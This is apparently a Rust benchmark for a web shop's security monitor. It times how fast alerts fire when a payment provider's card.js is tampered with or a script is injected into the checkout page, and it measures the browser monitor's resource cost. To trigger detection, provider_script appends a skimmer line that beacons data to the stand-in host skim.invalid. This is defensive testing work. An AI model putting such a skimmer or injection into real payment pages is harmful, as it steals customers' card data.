//! Time from a change to its alert for the two script kinds of issue 9, through the real path,
//! and what the browser monitor costs:
//!
//! - **provider script**: the sandbox provider's `card.js` rewritten on disk at the "vendor"
//!   (notice 004), seen by the browser monitor running at its default interval (30 s) in Debian's
//!   Chromium, until the `script.changed` alert is stored. The change lands at a random moment of
//!   the monitor's cycle (a random pause before each change), so the median is about half an
//!   interval plus a walk and the worst about an interval plus a walk. Between tries an owner's
//!   approval makes the changed file known-good; the next try changes it back.
//! - **checkout script**: a script from another origin injected into the checkout page in a
//!   customer's Chromium (what an HTML injection does), refused by the CSP, reported by the
//!   browser, stored and alerted (`csp.script_blocked`); timed from the injection until the
//!   alert row is readable. The alert is closed between tries.
//! - **monitor cost**: every walk starts a Chromium of its own and closes it: the CPU time of
//!   those processes per walk (from `/proc/self/stat`'s waited-for children), their summed resident
//!   memory sampled every 50 ms during a walk (peak), and the walk's wall time; the CPU share at
//!   the default interval is CPU per walk / 30 s.
//!
//! Not a criterion bench: these are latencies of asynchronous events, whose distribution (median,
//! worst) is the figure. `TRIES` (default 20) sets the number of tries per kind; `BACKEND`
//! (`sqlite`, `postgres`, default both).
//!
//! `cargo xtask bench -p mamori-shop --bench script_time_to_alert`
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, dead_code)]

#[path = "../tests/common/mod.rs"]
mod common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{Backend, TestShop};
use mamori_e2e::{Browser, DEFAULT_TIMEOUT};
use mamori_guard::files::{FileGuard, GuardKey, WatchSpec};
use mamori_guard::monitor::{BrowserMonitor, MonitorConfig, ProviderProbe, Target};
use mamori_guard::{kinds, AlertConfig, Alerts};
use mamori_pay::url::Url;
use mamori_pay::HttpConnector;
use mamori_store::{alert_state, AlertFilter, Records};

const CARD_JS: &str = include_str!("../../mamori-pay/src/sandbox/card.js");

fn tries() -> usize {
    std::env::var("TRIES")
        .ok()
        .and_then(|t| t.parse().ok())
        .unwrap_or(20)
}

/// A pause in `0..max`, from the clock's nanoseconds (a bench needs spread, not secrecy).
fn random_pause(max: Duration) -> Duration {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos() as u64;
    let x = nanos
        .wrapping_mul(6_364_136_223_846_793_005)
        .rotate_left(17);
    Duration::from_millis(x % max.as_millis().max(1) as u64)
}

fn summary(mut times: Vec<Duration>) -> String {
    times.sort();
    let s = |d: Duration| d.as_secs_f64();
    format!(
        "median {:.2} s, worst {:.2} s, best {:.2} s ({} tries)",
        s(times[times.len() / 2]),
        s(times[times.len() - 1]),
        s(times[0]),
        times.len()
    )
}

async fn open_alerts(records: &Arc<dyn Records>, kind: &str) -> usize {
    records
        .alerts_page(
            &AlertFilter {
                state: None,
                kind: Some(kind.into()),
            },
            0,
            200,
        )
        .await
        .unwrap()
        .items
        .iter()
        .filter(|a| a.state != alert_state::CLOSED)
        .count()
}

async fn wait_for_open(records: &Arc<dyn Records>, kind: &str, limit: Duration) -> Duration {
    let start = Instant::now();
    while open_alerts(records, kind).await == 0 {
        assert!(start.elapsed() < limit, "no {kind} alert within {limit:?}");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    start.elapsed()
}

/// CPU seconds of this process's waited-for children (Chromium and its helpers, once closed).
fn children_cpu() -> Duration {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap();
    // Fields after the command's closing parenthesis; cutime and cstime are fields 16 and 17.
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = rest.split_whitespace().collect();
    let ticks: u64 = f[13].parse::<u64>().unwrap() + f[14].parse::<u64>().unwrap();
    // USER_HZ is 100 on Linux.
    Duration::from_millis(ticks * 10)
}

/// The summed proportional set size (KiB: shared pages divided among their sharers, so that
/// Chromium's processes are not counted several times over) of every descendant of this process.
fn descendants_rss_kib() -> u64 {
    let me = std::process::id();
    let mut parent = std::collections::HashMap::new();
    let mut rss = std::collections::HashMap::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(status) = std::fs::read_to_string(entry.path().join("status")) else {
            continue;
        };
        for line in status.lines() {
            if let Some(v) = line.strip_prefix("PPid:") {
                parent.insert(pid, v.trim().parse::<u32>().unwrap_or(0));
            }
        }
        if let Ok(rollup) = std::fs::read_to_string(entry.path().join("smaps_rollup")) {
            for line in rollup.lines() {
                if let Some(v) = line.strip_prefix("Pss:") {
                    let kib = v.trim().trim_end_matches("kB").trim().parse().unwrap_or(0);
                    rss.insert(pid, kib);
                }
            }
        }
    }
    let descends = |mut pid: u32| {
        while pid > 1 {
            pid = *parent.get(&pid).unwrap_or(&0);
            if pid == me {
                return true;
            }
        }
        false
    };
    rss.iter()
        .filter(|(pid, _)| descends(**pid))
        .map(|(_, kib)| kib)
        .sum()
}

fn alerts_of(shop: &TestShop) -> Alerts {
    Alerts::new(
        shop.gateway().clone(),
        AlertConfig {
            shop_name: "守り商店".into(),
            backoffice_origin: None,
            webhook: None,
        },
    )
}

fn monitor_config(shop: &TestShop, interval: Duration) -> MonitorConfig {
    let shop_url = Url::parse(&format!("{}/", shop.base_url)).unwrap();
    let sandbox = Url::parse(&shop.sandbox_url).unwrap();
    let mut config = MonitorConfig::new(
        Target::shop_pages(&shop_url, "/product/PT-1001"),
        Some(ProviderProbe {
            connector: Arc::new(HttpConnector::new(sandbox, shop.api_key.clone()).unwrap()),
            return_url: shop_url.join("checkout/return").unwrap(),
            cancel_url: shop_url.join("checkout/cancel").unwrap(),
        }),
    );
    config.interval = interval;
    config.chromium = mamori_e2e::chromium_path();
    config
}

/// The monitor's cost per walk: wall time, CPU of its Chromium, peak summed RSS.
async fn monitor_cost(backend: Backend, walks: usize) {
    let shop = TestShop::start_with(backend, Duration::ZERO, None).await;
    let monitor = Arc::new(BrowserMonitor::new(
        monitor_config(&shop, mamori_guard::monitor::DEFAULT_INTERVAL),
        alerts_of(&shop),
    ));
    // The first walk records the known-good pages; not counted.
    monitor.walk().await.unwrap();
    let (mut wall, mut cpu, mut peak) = (Vec::new(), Vec::new(), 0u64);
    for _ in 0..walks {
        let cpu0 = children_cpu();
        let start = Instant::now();
        let m = monitor.clone();
        let walk = tokio::spawn(async move { m.walk().await });
        let mut walk_peak = 0;
        while !walk.is_finished() {
            walk_peak = walk_peak.max(descendants_rss_kib());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let changes = walk.await.unwrap().unwrap();
        assert!(changes.is_empty(), "nothing changed: {changes:?}");
        wall.push(start.elapsed());
        // Chromium's processes are reaped by the time `walk` returns (it waits for the child).
        cpu.push(children_cpu() - cpu0);
        peak = peak.max(walk_peak);
    }
    let interval = mamori_guard::monitor::DEFAULT_INTERVAL.as_secs_f64();
    let mut sorted = cpu.clone();
    sorted.sort();
    let median_cpu = sorted[sorted.len() / 2].as_secs_f64();
    println!("  monitor walk wall time: {}", summary(wall));
    println!("  monitor CPU per walk:   {}", summary(cpu));
    println!(
        "  monitor CPU share at the default {interval:.0} s interval: {:.1}% of one core (median)",
        100.0 * median_cpu / interval
    );
    println!(
        "  monitor peak memory during a walk (Chromium, all processes, summed PSS): {:.0} MiB",
        peak as f64 / 1024.0
    );
}

async fn provider_script(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    let card_js = dir.path().join("card.js");
    std::fs::write(&card_js, CARD_JS).unwrap();
    let shop = TestShop::start_with(backend, Duration::ZERO, Some(dir.path().to_path_buf())).await;
    let records = shop.store().clone();
    let alerts = alerts_of(&shop);
    let interval = mamori_guard::monitor::DEFAULT_INTERVAL;
    let monitor = Arc::new(BrowserMonitor::new(
        monitor_config(&shop, interval),
        alerts.clone(),
    ));
    // The first observation (known-good) before the loop starts.
    monitor.walk().await.unwrap();
    let handle = monitor.spawn();
    let key = GuardKey::create(&dir.path().join("guard.key")).unwrap();
    let guard = FileGuard::without_baseline(
        WatchSpec::default(),
        dir.path().join("guard-baseline.json"),
        key,
        alerts,
    );
    let mut times = Vec::new();
    for i in 0..tries() {
        tokio::time::sleep(random_pause(interval)).await;
        // Odd tries add a skimmer line, even ones take it out again: each differs from the
        // known-good file the last approval made.
        let content = if i % 2 == 0 {
            format!("{CARD_JS}navigator.sendBeacon(\"https://skim.invalid/c\", \"{i}\");\n")
        } else {
            CARD_JS.to_owned()
        };
        std::fs::write(&card_js, content).unwrap();
        times.push(wait_for_open(&records, kinds::SCRIPT_CHANGED, interval * 4).await);
        guard
            .approve("owner-1", "計測のための変更を承認", &format!("bench-{i}"))
            .await
            .unwrap();
        assert_eq!(open_alerts(&records, kinds::SCRIPT_CHANGED).await, 0);
    }
    drop(handle);
    println!(
        "  provider script (card.js at the vendor) → script.changed: {}",
        summary(times)
    );
}

async fn checkout_script(backend: Backend) {
    let shop = TestShop::start_with_csp_guard(backend).await;
    let records = shop.store().clone();
    let browser = Browser::launch().await.unwrap();
    let page = browser.new_page().await.unwrap();
    page.goto(&shop.url("/product/PT-1001")).await.unwrap();
    page.submit_and_wait("#add-to-cart button").await.unwrap();
    let mut times = Vec::new();
    for i in 0..tries() {
        page.goto(&shop.url("/checkout")).await.unwrap();
        page.wait_for("#buyer_family", DEFAULT_TIMEOUT)
            .await
            .unwrap();
        // A parser-inserted script from another origin, a new one each try (the sink alerts on
        // an origin it has not seen blocked on the page before); nothing listens there: the CSP
        // refuses it before any fetch.
        let injected = format!(
            "document.write('<p id=\"injected\">x</p><script src=\"http://127.0.0.1:{}/e.js\"></' + 'script>'); \
             document.close(); true",
            20_000 + i
        );
        let start = Instant::now();
        assert!(page.eval::<bool>(&injected).await.unwrap());
        while open_alerts(&records, kinds::CSP_SCRIPT_BLOCKED).await == 0 {
            assert!(start.elapsed() < Duration::from_secs(120), "no alert");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        times.push(start.elapsed());
        records
            .alerts_close(kinds::CSP_SCRIPT_BLOCKED, "page:", "bench", 0)
            .await
            .unwrap();
    }
    page.close().await.unwrap();
    browser.close().await.unwrap();
    println!(
        "  checkout script (injected, CSP-refused) → csp.script_blocked: {}",
        summary(times)
    );
}

fn main() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let which = std::env::var("BACKEND").unwrap_or_default();
    let what = std::env::var("KINDS").unwrap_or_else(|_| "cost,checkout,provider".into());
    for (name, backend) in [
        ("SQLite", Backend::Sqlite),
        ("PostgreSQL", Backend::Postgres),
    ] {
        if !which.is_empty() && !name.eq_ignore_ascii_case(&which) {
            continue;
        }
        println!("{name}:");
        rt.block_on(async {
            if what.contains("cost") {
                monitor_cost(backend, tries().min(10)).await;
            }
            if what.contains("checkout") {
                checkout_script(backend).await;
            }
            if what.contains("provider") {
                provider_script(backend).await;
            }
        });
    }
}
